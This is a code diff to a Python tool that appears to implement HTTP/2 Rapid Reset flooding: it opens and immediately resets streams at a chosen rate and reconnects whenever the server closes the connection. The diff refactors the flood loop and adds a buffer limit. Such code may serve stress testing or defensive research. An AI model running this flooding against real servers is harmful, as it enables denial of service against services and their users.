@@ -24,14 +24,13 @@ def rapid_reset(
     """
     block = request(path, token)
 
-    def call(connection: Connection) -> bool:
+    def call(connection: Connection) -> None:
         stream = connection.open(block)
         if body:
             connection.data(stream, body)
         connection.reset(stream)
-        return True
 
-    return _flood(address, a_second, seconds, source, call)
+    return flood(address, a_second, seconds, source, call)
 
 
 def rapid_reset_until_shut_out(
@@ -63,17 +62,21 @@ def refused_calls(
         connection.data(connection.open(block), body, end=True)
         return True
 
-    return _flood(address, a_second, seconds, source, call)
+    return flood(address, a_second, seconds, source, call)
 
 
-def _flood(
+def flood(
     address: str,
     a_second: float,
     seconds: float,
     source: str,
-    call: Callable[[Connection], bool],
+    send: Callable[[Connection], bool | None],
+    ahead: int = 65_536,
 ) -> int:
-    """Make calls until `call` makes none; return how many."""
+    """Send again and again, on a new connection whenever one is closed; return how often.
+
+    `send` returns False where it has to wait; so much at most is `ahead` of what the network takes.
+    """
     started = time.monotonic()
     connection = connected_again(address, source, started + seconds)
     made = 0
@@ -82,7 +85,9 @@ def _flood(
             connection.close()
             connection = connected_again(address, source, started + seconds)
             continue
-        while made < past * a_second and connection.pending() < 65_536 and call(connection):
+        while made < past * a_second and connection.pending() < ahead:
+            if send(connection) is False:
+                break
             made += 1
         connection.pump(0.001)
     if connection is not None:
